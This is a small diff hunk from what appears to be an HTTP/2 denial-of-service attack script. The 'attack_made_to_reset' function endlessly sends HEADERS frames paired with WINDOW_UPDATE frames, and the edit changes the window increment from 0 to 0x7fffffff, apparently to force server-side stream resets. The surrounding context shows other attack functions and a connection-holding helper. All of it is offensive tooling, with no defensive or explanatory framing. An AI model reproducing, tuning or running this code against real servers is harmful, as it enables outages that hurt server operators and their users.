@@ -121,7 +121,7 @@ def attack_empty(client):
 
 def attack_made_to_reset(client):
     return endless(lambda n: frame(HEADERS, 4, 2 * n + 1, client.block.replace(b"GET", b"PUT"))
-                   + frame(WINDOW_UPDATE, 0, 2 * n + 1, struct.pack("!I", 0)))
+                   + frame(WINDOW_UPDATE, 0, 2 * n + 1, struct.pack("!I", 0x7fffffff)))
 
 
 def hold(address, port, path, connections):
